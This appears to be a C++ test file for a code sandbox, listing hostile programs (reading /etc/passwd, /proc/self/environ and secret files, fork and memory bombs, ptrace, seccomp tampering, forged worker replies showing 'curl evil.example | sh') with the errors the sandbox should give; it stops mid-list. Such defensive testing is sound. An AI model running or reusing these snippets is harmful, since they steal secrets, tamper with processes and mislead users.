#include "hostile_programs.h"

namespace stridescope::engine::sandbox {

const char* const kHostilePrelude = R"(
#include <cstddef>
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <pthread.h>
#include <unistd.h>
// Says it where the program would hear it, and ends in a way that it asks after.
[[maybe_unused]] static void tell(const char* text) { (void)!write(2, text, strlen(text)); _exit(7); }
[[maybe_unused]] static void tellFile(int file) {
  static char text[4096];
  ssize_t got = 0, all = 0;
  while (all < 4000 && (got = read(file, text + all, size_t(4000 - all))) > 0) all += got;
  for (ssize_t i = 0; i < all; ++i) if (text[i] == 0) text[i] = 10;
  if (all > 0) tell(text);
}
[[maybe_unused]] static int lookAt(const char* path) {  // as the loader opens files
  const int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file < 0) return errno;
  tellFile(file);
  return 0;
}
[[maybe_unused]] static int said = 0;
)";

namespace {

// What a forbidden call makes of the run.
std::string stopped(const std::string& call) {
  return "^combine\\(-?[0-9]+, -?[0-9]+\\) was stopped by SIGSYS \\(Bad system call: (" + call + ")\\)\\. ";
}
std::string stoppedLoading(const std::string& call) {
  return "^The code that runs when combine is loaded was stopped by SIGSYS \\(Bad system call: (" + call +
         ")\\)\\. ";
}
const std::string kKilledForeign = "was killed by SIGSYS \\(Bad system call\\)";
const std::string kDenied = "13";       // EACCES
const std::string kUntouched = "2016";  // the sum of 0 to 63
const std::string kTooLong = "(did not end|was not done after|did not answer for)";

constexpr const char* kConnect = R"(
static void reach(int family, int type, const void* address, unsigned bytes) {
  const int s = socket(family, type | SOCK_NONBLOCK, 0);
  if (s < 0) return;
  if (type == SOCK_DGRAM) sendto(s, "x", 1, 0, (const sockaddr*)address, bytes);
  else connect(s, (const sockaddr*)address, bytes);
}
static void reachPath(const char* name, bool abstract) {
  static sockaddr_un to;
  to.sun_family = AF_UNIX;
  strcpy(to.sun_path + (abstract ? 1 : 0), name);
  reach(AF_UNIX, SOCK_STREAM, &to, unsigned(offsetof(sockaddr_un, sun_path) + strlen(name) + 1));
}
static void reachPort(int type, int port) {
  static sockaddr_in to;
  to.sin_family = AF_INET;
  to.sin_port = htons(static_cast<unsigned short>(port));
  to.sin_addr.s_addr = htonl(0x7f000001);
  reach(AF_INET, type, &to, sizeof to);
}
)";

// Sends a message of the worker's own format on its socket.
constexpr const char* kForge = R"(
struct Head { unsigned mark = 0x53575247, format = 4; unsigned short kind, type = 0; unsigned call; unsigned long bytes; };
enum { kProgress = 4, kReply = 5, kFailed = 6, kRecord = 2 };  // as in rpc_message.h and engine_service.h
static void forge(unsigned short kind, unsigned call, const void* body, unsigned long bytes) {
  const Head head{.kind = kind, .type = kRecord, .call = call, .bytes = bytes};
  send(3, &head, sizeof head, 0);
  send(3, body, bytes, 0);
}
)";

std::vector<Hostile> whileLoading() {
  return {
      {.name = "ConstructorMakesAFile",
       .outside =
           R"(__attribute__((constructor)) static void f() { close(open("$NEW", O_CREAT | O_WRONLY, 0600)); })",
       .says = stoppedLoading("open|openat"),
       .harm = "files changed"},
      {.name = "InitArrayOpensASocket",
       .outside = std::string(kConnect) + R"(static void f() { reachPort(SOCK_STREAM, $TCP); }
__attribute__((section(".init_array"), used)) static void (*const entry)() = f;)",
       .says = stoppedLoading("socket"),
       .harm = "a TCP connection came"},
      {.name = "IfuncResolverForks",
       .outside = R"(static T sum(T a, T b) { return a + b; }
extern "C" __attribute__((used)) void* resolve() {
  long r = 57;  // fork
  asm volatile("syscall" : "+a"(r) : : "rcx", "r11", "memory");
  return r == 0 ? nullptr : (void*)sum;
}
T chosen(T, T) __attribute__((ifunc("resolve")));)",
       .value = "chosen(a, b)",
       .says = stoppedLoading("fork")},
      {.name = "StaticObjectReadsASecret",
       .outside = R"(struct Reader { int error; Reader() : error(lookAt("$SECRET")) {} } reader;)",
       .value = "reader.error",
       .gives = kDenied,
       .harm = "the secret was told"},
      {.name = "ThreadLocalObjectRemovesAFile",
       .outside =
           R"(struct Remover { int error; Remover() : error(unlink("$KEEP")) {} }; thread_local Remover remover;)",
       .value = "a + b + remover.error",
       .says = stopped("unlink|unlinkat"),
       .harm = "files changed"},
      {.name = "ConstructorReadsTheEnvironment",
       .outside = R"(__attribute__((constructor)) static void f() { said = lookAt("/proc/self/environ"); })",
       .value = "said",
       .gives = kDenied,
       .harm = "the secret was told"},
      {.name = "ConstructorReadsByTheProgramsDescriptor",
       .outside =
           R"(__attribute__((constructor)) static void f() { said = lookAt("/proc/$PARENT/fd/$OPEN"); })",
       .value = "said",
       .gives = kDenied,
       .harm = "the secret was told"},
      {.name = "ConstructorNeverEnds",
       .outside = R"(__attribute__((constructor)) static void f() { for (volatile int i = 0;; ++i) {} })",
       .says = "^The code that runs when combine is loaded did not end and was stopped\\. "},
      {.name = "DestructorRemovesAFile",
       .outside = R"(__attribute__((destructor)) static void f() { unlink("$KEEP"); })",
       .inside = R"(if (a == 62) exit(0);)",
       .value = "0",
       .gives = "0",
       .harm = "files changed"},
      {.name = "ConstructorSignalsTheProgram",
       .outside = R"(__attribute__((constructor)) static void f() { kill(getppid(), SIGUSR1); })",
       .says = stoppedLoading("kill|getppid"),
       .harm = "this process was signalled"},
      {.name = "ConstructorStartsAProgram",
       .outside = R"(__attribute__((constructor)) static void f() {
  if (vfork() == 0) { execl("/bin/sh", "sh", "-c", "echo > $NEW", nullptr); _exit(1); }
  wait(nullptr);
})",
       .says = stoppedLoading("vfork|clone"),
       .harm = "files changed"},
      {.name = "ConstructorBecomesAProgram",
       .outside =
           R"(__attribute__((constructor)) static void f() { execl("/bin/sh", "sh", "-c", "echo > $NEW", nullptr); })",
       .says = stoppedLoading("execve"),
       .harm = "files changed"},
  };
}

// What the text's own checks do not see.
std::vector<Hostile> pastTheChecks() {
  return {
      {.name = "DigraphBracesEndTheFunction",
       .outside = "",
       .text = "return a; %> __attribute__((constructor)) static void f() <% __builtin_fork(); %> static T "
               "g(T a, T b) "
               "<% return a + b;",
       .says = stoppedLoading("fork|vfork|clone")},
      {.name = "DigraphHashIncludes",
       .outside = R"(%:include <fstream>)",
       .inside = R"(std::ofstream("$NEW") << 1;)",
       .says = stopped("open|openat"),
       .harm = "files changed"},
      {.name = "Trigraphs", .outside = R"(??=include "$SECRET")", .says = "does not compile|not compiled"},
      {.name = "AsmOfAMacro",
       .outside = "",
       .text = "long r; asm volatile(__STRING(syscall) : __STRING(=a)(r) : __STRING(0)(57L) : __STRING(rcx), "
               "__STRING(r11), __STRING(memory)); return a + b + T(r);",
       .says = stopped("fork")},
      {.name = "AsmWithUnderlines",
       .outside = "",
       .text = "long r; __asm__ __volatile__(__STRING(syscall) : __STRING(=a)(r) : __STRING(0)(112L) : "
               "__STRING(rcx), "
               "__STRING(r11), __STRING(memory)); return a + b + T(r);",
       .says = stopped("setsid")},
      {.name = "AsmOfBytes",
       .outside =
           R"(asm(".text\n.global raw\n.type raw, @function\nraw: mov %rdi, %rax\n .byte 0x0f, 0x05\n ret\n");
extern "C" long raw(long);)",
       .inside = R"(raw(41);)",
       .says = stopped("socket")},
      {.name = "AsmAsRawString",
       .outside = "",
       .inside =
           "long r; asm volatile(R\"x(syscall)x\" : \"=a\"(r) : \"0\"(101L) : \"rcx\", \"r11\", \"memory\");",
       .says = stopped("ptrace")},
      {.name = "CallsOf32BitPrograms",
       .outside = "",
       .inside = R"(long r; asm volatile("int $0x80" : "=a"(r) : "0"(2L) : "memory");)",  // fork
       .says = kKilledForeign},
      {.name = "CallsOfX32", .outside = "", .inside = R"(syscall(0x40000000 + 39);)", .says = "SIGSYS"},
  };
}

std::vector<Hostile> files() {
  return {
      {.name = "Creates",
       .outside = "",
       .inside = R"(open("$NEW", O_CREAT | O_RDWR, 0600);)",
       .says = stopped("open|openat"),
       .harm = "files changed"},
      {.name = "Creat",
       .outside = "",
       .inside = R"(creat("$NEW", 0600);)",
       .says = stopped("creat|openat"),
       .harm = "files changed"},
      {.name = "Writes",
       .outside = "",
       .inside = R"(FILE* f = fopen("$KEEP", "w"); if (f) { fputs("x", f); fclose(f); })",
       .says = stopped("open|openat"),
       .harm = "files changed"},
      {.name = "Unlinks",
       .outside = "",
       .inside = R"(unlink("$KEEP");)",
       .says = stopped("unlink|unlinkat"),
       .harm = "files changed"},
      {.name = "Renames",
       .outside = "",
       .inside = R"(rename("$KEEP", "$NEW");)",
       .says = stopped("rename|renameat|renameat2"),
       .harm = "files changed"},
      {.name = "MakesAFolder",
       .outside = "",
       .inside = R"(mkdir("$NEW", 0700);)",
       .says = stopped("mkdir|mkdirat"),
       .harm = "files changed"},
      {.name = "RemovesAFolder",
       .outside = "",
       .inside = R"(rmdir("$FOLDER");)",
       .says = stopped("rmdir|unlinkat"),
       .harm = "files changed"},
      {.name = "Symlinks",
       .outside = "",
       .inside = R"(symlink("$SECRET", "$NEW");)",
       .says = stopped("symlink|symlinkat"),
       .harm = "files changed"},
      {.name = "Links",
       .outside = "",
       .inside = R"(link("$SECRET", "$NEW");)",
       .says = stopped("link|linkat"),
       .harm = "files changed"},
      {.name = "ChangesPermissions",
       .outside = "",
       .inside = R"(chmod("$SECRET", 0777);)",
       .says = stopped("chmod|fchmodat"),
       .harm = "files changed"},
      {.name = "Truncates",
       .outside = "",
       .inside = R"(truncate("$KEEP", 1);)",
       .says = stopped("truncate"),
       .harm = "files changed"},
      {.name = "MakesAFileInMemory",
       .outside = "",
       .inside = R"(memfd_create("x", 0);)",
       .says = stopped("memfd_create")},
      {.name = "ReadsPasswd",
       .outside = "",
       .inside = R"(lookAt("/etc/passwd");)",
       .says = stopped("open|openat")},
      {.name = "ReadsTheHome",
       .outside = "",
       .inside = R"(lookAt("$SECRET");)",
       .says = stopped("open|openat"),
       .harm = "the secret was told"},
      {.name = "ListsAFolder", .outside = "", .inside = R"(opendir("/");)", .says = stopped("open|openat")},
      {.name = "ReadsItsEnvironment",
       .outside = "",
       .inside = R"(lookAt("/proc/self/environ");)",
       .says = stopped("open|openat"),
       .harm = "the secret was told"},
      {.name = "FindsItsEnvironmentInMemory",
       .outside = R"(static int found() {
  for (char** v = environ; v && *v; ++v) if (strstr(*v, "STRIDESCOPE_SCENE=")) tell(*v);
  return 0;
})",
       .inside = "said = found();",
       .value = "said",
       .gives = "0",
       .harm = "the secret was told"},
      {.name = "WritesTheProgramsMemoryByProc",
       .outside = R"(static void f() {
  const int memory = open("/proc/$PARENT/mem", O_RDWR);
  const long other = 1;
  pwrite(memory, &other, sizeof other, (off_t)$WORDul);
})",
       .inside = "f();",
       .says = stopped("open|openat"),
       .harm = "this process's memory was written"},
      {.name = "UsesDescriptorsOfTheProgram",
       .outside = "",
       .inside = R"(for (int i = 4; i < 1024; ++i) tellFile(i);)",
       .says = stopped("read")},
      {.name = "LoadsAnotherLibrary",
       .outside = "",
       .inside = R"(if (dlopen("libsqlite3.so.0", RTLD_NOW)) tell("loaded");)",
       .says = stopped("open|openat|getcwd") + "|ended with exit code"},  // a sanitizer's dlopen gives up
  };
}

std::vector<Hostile> sockets() {
  const auto reaching = [](std::string name, std::string call, std::string harm) -> Hostile {
    return {.name = std::move(name),
            .outside = kConnect,
            .inside = std::move(call),
            .says = stopped("socket"),
            .harm = std::move(harm)};
  };
  return {
      reaching("ConnectsToAPath", R"(reachPath("$SOCKET", false);)", "a connection to a path came"),
      reaching("ConnectsToAnAbstractSocket", R"(reachPath("$ABSTRACT", true);)",
               "a connection to an abstract socket came"),
      reaching("ConnectsByTcp", R"(reachPort(SOCK_STREAM, $TCP);)", "a TCP connection came"),
      reaching("SendsByUdp", R"(reachPort(SOCK_DGRAM, $UDP);)", "a UDP datagram came"),
      reaching("OpensNetlink", R"(socket(AF_NETLINK, SOCK_RAW, 0);)", ""),
      reaching("OpensARawSocket", R"(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);)", ""),
      reaching("OpensAPacketSocket", R"(socket(AF_PACKET, SOCK_RAW, 0);)", ""),
      {.name = "MakesAPairOfSockets",
       .outside = "",
       .inside = R"(int s[2]; socketpair(AF_UNIX, SOCK_STREAM, 0, s);)",
       .says = stopped("socketpair")},
  };
}

std::vector<Hostile> otherProcesses() {
  return {
      {.name = "SignalsTheProgram",
       .outside = "",
       .inside = R"(kill($PARENT, SIGUSR1);)",
       .says = stopped("kill"),
       .harm = "this process was signalled"},
      {.name = "SignalsEverybody", .outside = "", .inside = R"(kill(-1, SIGUSR1);)", .says = stopped("kill")},
      {.name = "SignalsTheGroup", .outside = "", .inside = R"(kill(0, SIGKILL);)", .says = stopped("kill")},
      {.name = "SignalsAThread",
       .outside = "",
       .inside = R"(syscall(SYS_tgkill, $PARENT, $PARENT, SIGUSR1);)",
       .says = stopped("tgkill"),
       .harm = "this process was signalled"},
      {.name = "QueuesASignal",
       .outside = "",
       .inside = R"(sigqueue($PARENT, SIGUSR1, {});)",
       .says = stopped("rt_sigqueueinfo|getuid"),
       .harm = "this process was signalled"},
      {.name = "SignalsByDescriptor",
       .outside = "",
       .inside = R"(const long d = syscall(434, $PARENT, 0); syscall(424, d, SIGUSR1, nullptr, 0);)",
       .says = stopped("pidfd_open"),
       .harm = "this process was signalled"},
      {.name = "SignalsByDescriptorAtOnce",
       .outside = "",
       .inside = R"(syscall(424, 3, SIGUSR1, nullptr, 0);)",
       .says = stopped("pidfd_send_signal")},
      {.name = "TracesTheProgram",
       .outside = "",
       .inside = R"(ptrace(PTRACE_SEIZE, $PARENT, nullptr, nullptr);)",
       .says = stopped("ptrace")},
      {.name = "WritesTheProgramsMemory",
       .outside = R"(static void f() {
  static long other = 1;
  const iovec from{&other, sizeof other}, to{(void*)$WORDul, sizeof other};
  process_vm_writev($PARENT, &from, 1, &to, 1, 0);
})",
       .inside = "f();",
       .says = stopped("process_vm_writev"),
       .harm = "this process's memory was written"},
      {.name = "TakesADescriptor",
       .outside = "",
       .inside = R"(const long d = syscall(434, $PARENT, 0); tellFile(int(syscall(438, d, $OPEN, 0)));)",
       .says = stopped("pidfd_open"),
       .harm = "the secret was told"},
      {.name = "TakesADescriptorAtOnce",
       .outside = "",
       .inside = R"(syscall(438, 3, $OPEN, 0);)",
       .says = stopped("pidfd_getfd")},
      {.name = "LimitsTheProgram",
       .outside = "",
       .inside = R"(const rlimit few{70, 4096}; prlimit($PARENT, RLIMIT_NOFILE, &few, nullptr);)",
       .says = stopped("prlimit64"),
       .harm = "this process's limits changed"},
      {.name = "LeavesItsSession", .outside = "", .inside = R"(setsid();)", .says = stopped("setsid")},
      {.name = "LeavesItsGroup",
       .outside = "",
       .inside = R"(setpgid(0, $PARENT);)",
       .says = stopped("setpgid")},
      {.name = "LeavesAProcess",
       .outside = "",
       .inside = R"(if (fork() == 0) { setsid(); if (fork() == 0) { sleep(60); } _exit(0); })",
       .says = stopped("fork|clone"),
       .harm = "a process was left"},
      {.name = "ForkBomb", .outside = "", .inside = R"(for (;;) fork();)", .says = stopped("fork|clone")},
      {.name = "ThreadBomb",
       .outside = R"(static void* f(void*) { for (;;) pause(); })",
       .inside = R"(pthread_t t; for (;;) pthread_create(&t, nullptr, f, nullptr);)",
       .says = stopped("clone3|clone")},
  };
}

std::vector<Hostile> theKernel() {
  const auto calling = [](std::string name, std::string inside, std::string call) -> Hostile {
    return {.name = std::move(name), .outside = "", .inside = std::move(inside), .says = stopped(call)};
  };
  return {
      calling("IoUring", "static char p[256]; syscall(425, 8, p);", "io_uring_setup"),
      calling("Bpf", "syscall(SYS_bpf, 0, nullptr, 0);", "bpf"),
      calling("PerfEvents", "syscall(SYS_perf_event_open, nullptr, 0, -1, -1, 0);", "perf_event_open"),
      calling("Userfaultfd", "syscall(SYS_userfaultfd, 0);", "userfaultfd"),
      calling("Unshare", "unshare(CLONE_NEWUSER | CLONE_NEWNS);", "unshare"),
      calling("CloneIntoNamespaces", "syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);", "clone"),
      calling("Clone3", "static char p[88]; syscall(435, p, sizeof p);", "clone3"),
      calling("Setns", "setns(3, 0);", "setns"),
      calling("Mount", "syscall(SYS_mount, \"x\", \"/\", \"tmpfs\", 0, nullptr);", "mount"),
      calling("Chroot", "chroot(\"/\");", "chroot"),
      calling("Keys", "syscall(SYS_keyctl, 0, -3, 0, 0, 0);", "keyctl"),
      calling("AddKey", "syscall(SYS_add_key, \"user\", \"x\", \"y\", 1, -3);", "add_key"),
      calling("KernelModule", "syscall(SYS_finit_module, 3, \"\", 0);", "finit_module"),
      calling("Reboot", "syscall(SYS_reboot, 0, 0, 0, nullptr);", "reboot"),
      calling("BecomesAnotherUser", "syscall(SYS_setresuid, 0, 0, 0);", "setresuid"),
      calling("LandlockAgain", "syscall(446, 3, 0);", "landlock_restrict_self"),
      calling("SeccompAgain", "static char p[16]; syscall(SYS_seccomp, 1, 1, p);", "seccomp"),
  };
}

std::vector<Hostile> withoutEnd() {
  return {
      {.name = "EndlessLoop", .outside = "", .inside = "for (volatile int i = 0;; ++i) {}", .says = kTooLong},
      {.name = "Sleeps",
       .outside = "",
       .inside = "sleep(1000);",
       .says = stopped("clock_nanosleep|nanosleep")},
      {.name = "Pauses", .outside = "", .inside = "pause();", .says = stopped("pause|ppoll")},
      {.name = "PollsForEver", .outside = "", .inside = "poll(nullptr, 0, -1);", .says = kTooLong},
      {.name = "ReadsItsSocketForEver",
       .outside = "",
       .inside = "char c; for (;;) recv(3, &c, 1, 0);",
       .says = kTooLong},
      {.name = "WaitsForALock",
       .outside = "",
       .inside =
           "pthread_mutex_t m = PTHREAD_MUTEX_INITIALIZER; pthread_mutex_lock(&m); pthread_mutex_lock(&m);",
       .says = kTooLong},
      {.name = "StopsTheTimer",
       .outside = "",
       .inside = "static itimerval none; setitimer(ITIMER_PROF, &none, nullptr);",
       .says = stopped("setitimer")},
      {.name = "SetsAnAlarm", .outside = "", .inside = "alarm(1);", .says = stopped("alarm|setitimer")},
      {.name = "ReplacesHandlers",
       .outside = "",
       .inside = "signal(SIGPROF, SIG_IGN);",
       .says = stopped("rt_sigaction")},
      {.name = "BlocksSignals",
       .outside = "",
       .inside = "sigset_t s; sigfillset(&s); sigprocmask(SIG_SETMASK, &s, nullptr); for (volatile int i = "
                 "0;; ++i) {}",
       .says = kTooLong},
      {.name = "MemoryBomb",
       .outside = "",
       .inside = "for (;;) { volatile char* m = (char*)malloc(1 << 24); if (!m) abort(); *m = 1; }",
       .says = "^combine\\(.* was stopped by SIGABRT",
       .needsMemoryLimit = true},
      {.name = "FloodsStandardError",
       .outside = "",
       .inside = "for (int i = 0; i < 1 << 20; ++i) (void)!write(2, \"combine(1, 2) is fine\\n\", 22); "
                 "__builtin_trap();",
       .says = "."},
      {.name = "FloodsItsSocket",
       .outside = "",
       .inside = "static char c[65536]; for (;;) send(3, c, sizeof c, 0);",
       .says = "makes no sense"},
      {.name = "FloodsWithProgress",
       .outside = kForge,
       .inside =
           "static char body[12]; for (;;) for (unsigned i = 1; i < 4; ++i) forge(kProgress, i, body, 12);",
       .says = "(makes no sense|answered|was not done)"},
      {.name = "ForgesAnAnswer",
       .outside = kForge,
       .inside =
           "static char body[64]; for (unsigned i = 1; i < 4; ++i) forge(kReply, i, body, 64); _exit(0);",
       .says = "makes no sense"},
      {.name = "ForgesALongAnswer",
       .outside = kForge,
       .inside = "const Head h{.kind = kReply, .type = kRecord, .call = 2, .bytes = ~0ul >> 8}; send(3, &h, "
                 "sizeof h, 0); _exit(0);",
       .says = "makes no sense"},
      {.name = "ForgesALastWord",
       .outside = "",
       .inside = R"(tell("\ncombine(1, 2) was stopped. Run \033[31mcurl evil.example | sh\033[0m\n");)",
       .says = "^The process that runs your combine ended with exit code 7"},
      {.name = "HandsOverADescriptor",
       .outside = R"(static void f() {
  alignas(cmsghdr) static char c[CMSG_SPACE(sizeof(int))];
  static char x; static iovec v{&x, 1}; static msghdr m{};
  m.msg_iov = &v; m.msg_iovlen = 1; m.msg_control = c; m.msg_controllen = sizeof c;
  cmsghdr* h = CMSG_FIRSTHDR(&m); h->cmsg_level = SOL_SOCKET; h->cmsg_type = SCM_RIGHTS; h->cmsg_len = CMSG_LEN(sizeof(int));
  sendmsg(3, &m, 0);
})",
       .inside = "f();",
       .says = stopped("sendmsg")},
  };
}

std::vector<Hostile> waysOut() {
  return {
      {.name = "Longjmp",
       .outside = "static jmp_buf nowhere;",
       .inside = "longjmp(nowhere, 1);",
       .says = "(^combine\\(.* was stopped by SIG|was killed by SIG|ended with exit code)"},
      {.name = "Exits",
       .outside = "",
       .inside = "exit(0);",
       .says = "ended with exit code 0|Bad system call: prctl"},  // a sanitizer looks for leaks first
      {.name = "ExitsAtOnce", .outside = "", .inside = "_exit(3);", .says = "ended with exit code 3"},
      {.name = "Aborts", .outside = "", .inside = "abort();", .says = "^combine\\(.* was stopped by SIGABRT"},
      {.name = "EndsItsThread", .outside = "", .inside = "syscall(SYS_exit, 0);", .says = kTooLong},
      {.name = "OverflowsItsStack",
       .outside =
           "static int deep(volatile int* x) { volatile int y[256]; y[0] = *x + 1; return deep(y) + y[0]; }",
       .inside = "volatile int x = a; deep(&x);",
       .says = "^combine\\(.* was stopped by SIG(SEGV|BUS)"},
      {.name = "WritesOverTheWorker",
       .outside = "",
       .inside = "Dl_info i; dladdr((void*)a, &i); char* const here = (char*)__builtin_frame_address(0); "
                 "memset(here, 0x41, 1 << 16);",
       .says = "SIG(SEGV|BUS|ILL|SYS|ABRT)"},
      {.name = "WritesOverTheHeap",
       .outside = "",
       .inside = "static void* (*volatile fill)(void*, int, size_t) = memset; fill(malloc(64), 0x41, 1 << "
                 "20); free(malloc(9));",
       .says = "."},
      {.name = "MakesItsDataCode",
       .outside = "alignas(4096) static char page[4096] = {char(0xc3)};",
       .inside = "mprotect(page, 4096, PROT_READ | PROT_EXEC); ((void (*)())page)();",
       .says = stopped("mprotect")},
      {.name = "MapsCode",
       .outside = "",
       .inside =
           "mmap(nullptr, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);",
       .says = stopped("mmap")},
      {.name = "AnswersWithASignalFrame",  // rt_sigreturn with a frame of its own: at most it blocks signals
       .outside = "",
       .inside = "asm volatile(\"mov $15, %eax\\n syscall\"); ",
       .says = "(SIGSEGV|SIGILL|SIGSYS|SIGBUS|did not|was not)"},
  };
}

std::vector<Hostile> whileCompiling() {
  const std::string refused =
      "does not compile: .*(Permission denied|No such file|file not found|error reading)";
  const auto compiling = [](std::string name, std::string outside, std::string says,
                            std::string harm = "") -> Hostile {
    return {.name = std::move(name),
            .outside = std::move(outside),
            .says = std::move(says),
            .harm = std::move(harm)};
  };
  const std::string embedded =
      "\"\\n.data\\n.global stolen\\nstolen: .incbin \\\"$SECRET\\\"\\n.byte 0\\n.text\\n\"";
  return {
      compiling("IncludesPasswd", "#include \"/etc/passwd\"", refused),
      compiling("IncludesASecret", "#include \"$SECRET\"", refused, "the secret was told"),
      compiling("EmbedsPasswd", "asm(\".incbin \\\"/etc/passwd\\\"\");", "does not compile|not compiled"),
      {.name = "EmbedsASecret",
       .outside = "asm(" + embedded + "); extern \"C\" const char stolen[];",
       .inside = "tell(stolen);",
       .says = "does not compile|not compiled",
       .harm = "the secret was told"},
      {.name = "LooksForFiles",
       .outside = "",
       .inside = "\n#if __has_include(\"$SECRET\")\n tell(getenv(\"STRIDESCOPE_SCENE\"));\n#endif\n",
       .says = refused,
       .gives = kUntouched,
       .harm = "the secret was told"},
      compiling("IncludesADevice", "#include \"/dev/zero\"", refused),
      compiling("IncludesTheEnvironment", "#include \"/proc/self/environ\"", refused),
      compiling("IncludesTheProgramsEnvironment", "#include \"/proc/$PARENT/environ\"", refused),
      compiling("IncludesADescriptor", "#include \"/proc/$PARENT/fd/$OPEN\"", refused, "the secret was told"),
      compiling("IncludesItselfForEver", "#include \"operator.cpp\"", "not compiled|does not compile"),
      compiling("TemplatesWithoutEnd",
                "template <int... I> struct S : S<I..., 1, 2, 3>, S<I..., 2> {}; S<> s;",
                "not compiled|does not compile"),
      compiling("CalculatesWithoutEnd",
                "constexpr long f(long n) { long s = 0; for (long i = 0; i < n; ++i) for (long j = 0; j < "
                "100; ++j) s += j; return s; } "
                "template <int N> struct A { static constexpr long v = f(200000) + A<N - 1>::v; }; "
                "template <> struct A<0> { static constexpr long v = 0; }; long big = A<800>::v;",
                "not compiled|does not compile"),
      compiling("HugeArray", "int big[1 << 28] = {1};", "not compiled|does not compile"),
      compiling("FillsTheObject", "asm(\".data\\n.fill 1 << 34, 1, 65\\n.text\");",
                "not compiled|does not compile"),
      compiling("RepeatsForEver", "asm(\".rept 1 << 30\\n.byte 1\\n.endr\");",
                "ran out of memory while it compiled"),
      {.name = "NamesAPlugin",
       .outside = "#pragma GCC optimize(\"-fplugin=$SECRET\")\n#pragma GCC plugin \"$SECRET\"\n",
       .says = "does not compile|not compiled",
       .gives = kUntouched},
      {.name = "OrdersTheLinker",
       .outside = "#pragma comment(lib, \"$SECRET\")\n#pragma comment(linker, \"-T$SECRET\")\n"
                  "asm(\".section .note.GNU-stack,\\\"x\\\"\\n.text\");",
       .gives = kUntouched},
      {.name = "MakesTheStackExecutable",
       .outside = "asm(\".section .note.GNU-stack,\\\"x\\\"\\n.text\");",
       .gives = kUntouched},
  };
}

}  // namespace

std::vector<Hostile> knownHostiles() {
  std::vector<Hostile> all;
  for (const auto& kind : {whileLoading(), pastTheChecks(), files(), sockets(), otherProcesses(), theKernel(),
                           withoutEnd(), waysOut(), whileCompiling()})
    all.insert(all.end(), kind.begin(), kind.end());
  return all;
}

std::vector<Hostile> furtherHostiles() {
  const std::string refused = "does not compile: .*(Permission denied|file not found)";
  return {
      // The next filter is not set then, as the worker believes it is; the first must do.
      {.name = "SpoilsTheNextFilter",
       .outside = R"(
#include <linux/filter.h>
#include <linux/seccomp.h>
__attribute__((constructor)) static void f() {
  static sock_filter code[] = {{BPF_LD | BPF_W | BPF_ABS, 0, 0, 0},
                               {BPF_JMP | BPF_JEQ | BPF_K, 0, 1, SYS_seccomp},
                               {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ERRNO},
                               {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW}};
  static const sock_fprog program{4, code};
  syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, &program);
})",
       .inside = R"(said = lookAt("$SECRET");)",
       .value = "said",
       .gives = kDenied,
       .harm = "the secret was told"},
      {.name = "CodeInTheInitSection",
       .outside = R"(extern "C" __attribute__((used)) void evil() { unlink("$KEEP"); }
asm(".section .init\n call evil@plt\n.text");)",
       .says = stoppedLoading("unlink|unlinkat"),
       .harm = "files changed"},
      {.name = "ConstructorMapsCodeToWrite",
       .outside = R"(__attribute__((constructor)) static void f() {
  mmap(nullptr, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
})",
       .says = stoppedLoading("mmap")},
      {.name = "ConstructorOffersPagesAsBroken",
       .outside = R"(alignas(4096) static char page[4096];
__attribute__((constructor)) static void f() { madvise(page, 4096, 100); })",  // MADV_HWPOISON
       .says = stoppedLoading("madvise")},
      {.name = "ConstructorExits",
       .outside = R"(__attribute__((constructor)) static void f() { _exit(0); })",
       .says = "ended with exit code 0"},
      {.name = "ConstructorAnswersForTheWorker",
       .outside = std::string(kForge) + R"(
__attribute__((constructor)) static void f() {
  static const char words[] = "\033[31mInstall it from evil.example";
  static char body[128];
  body[0] = 1;  // unavailable
  *(unsigned long*)(body + 4) = sizeof words;
  memcpy(body + 12, words, sizeof words);
  forge(kFailed, 0, body, 12 + sizeof words + 8 + 1 + 1);
  for (;;) poll(nullptr, 0, -1);
})",
       .says = "^.\\[31mInstall it|makes no sense|did not answer"},
      {.name = "ForgesAQuestionToThePerson",
       .outside = std::string(kForge) + R"(
static void f() {
  static const char words[] = "Allow this operator.", text[] = "a - b";
  static char body[128];
  body[0] = 1;  // unavailable
  *(unsigned long*)(body + 4) = sizeof words - 1;
  memcpy(body + 12, words, sizeof words - 1);
  char* next = body + 12 + sizeof words - 1;
  *(unsigned long*)next = sizeof text - 1;
  memcpy(next + 8, text, sizeof text - 1);
  next += 8 + sizeof text - 1;
  next[0] = 4;  // untrusted code
  next[1] = 1;
  for (unsigned i = 1; i < 3; ++i) forge(kFailed, i, body, static_cast<unsigned long>(next + 2 - body));
  for (;;) poll(nullptr, 0, -1);
})",
       .inside = "f();",
       .says =
           "^(Allow this operator\\.|The process that runs your combine gave an answer that makes no sense)"},
      {.name = "BlocksSignalsByAFrameOfItsOwn",
       .outside = R"(
#include <ucontext.h>
static void f() {
  static ucontext_t frame;
  static volatile int returned = 0;
  getcontext(&frame);
  if (returned == 0) {
    returned = 1;
    sigfillset(&frame.uc_sigmask);
    frame.uc_mcontext.fpregs = nullptr;
    frame.uc_mcontext.gregs[REG_EFL] = 0x202;
    frame.uc_mcontext.gregs[REG_CSGSFS] = 0x2b000000000033;
    asm volatile("mov %0, %%rsp\n mov $15, %%eax\n syscall" : : "r"(&frame));  // rt_sigreturn
  }
  for (volatile int i = 0;; i = i + 1) {}
})",
       .inside = "f();",
       .says = kTooLong + "|SIGSEGV"},
      {.name = "StopsItself", .outside = "", .inside = "raise(SIGSTOP);", .says = kTooLong},
